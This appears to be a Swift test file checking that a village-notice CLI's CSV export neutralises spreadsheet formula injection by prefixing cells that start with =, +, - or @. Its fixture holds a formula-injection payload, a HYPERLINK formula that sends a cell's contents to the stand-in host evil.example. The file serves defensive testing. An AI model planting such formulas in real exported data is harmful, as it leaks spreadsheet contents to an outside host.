import Foundation
import Testing

/// A resident registered under a formula name reaches the hamlet head's spreadsheet as text: every
/// cell `loa unread --format csv` writes that starts with `=`, `+`, `-` or `@` carries a leading `'`,
/// and the phone column stays the number people dial.
@Suite("loa unread --format csv: formula injection")
struct CSVInjectionCLITests {
    @Test
    func formulaNamesAreExportedAsText() async throws {
        let cli = try CLI()
        try cli.runner.write("residents.csv", Data("""
            name,phone,hamlet
            "=HYPERLINK(""http://evil.example/?""&A1,""Bấm"")",0912345678,Thôn Đông
            @SUM(A1:A9),0987654321,-Thôn Tây
            Trần Thị Bình,0977123456,+Thôn Nam

            """.utf8))
        _ = try await cli.ok("residents", "import", "residents.csv")
        let id = try await cli.ok("notice", "create", "--title", "Họp", "--body", "Họp dân", "--to", "all", "--channels", "sms")
            .trimmingCharacters(in: .whitespacesAndNewlines)

        let csv = try await cli.ok("unread", id, "--format", "csv")
        #expect(csv.contains(#","'=HYPERLINK(""http://evil.example/?""&A1,""Bấm"")",0912345678,Thôn Đông,"#), "\(csv)")
        #expect(csv.contains(",'@SUM(A1:A9),0987654321,'-Thôn Tây,"), "\(csv)")
        #expect(csv.contains(",Trần Thị Bình,0977123456,'+Thôn Nam,"), "\(csv)")
        let cells = csv.split(whereSeparator: \.isNewline).flatMap { $0.split(separator: ",") }
        let live = cells.filter { cell in
            let text = cell.hasPrefix("\"") ? cell.dropFirst() : cell
            return ["=", "+", "-", "@"].contains { text.hasPrefix($0) }
        }
        #expect(live.isEmpty, "cells a spreadsheet would run: \(live)")
    }
}
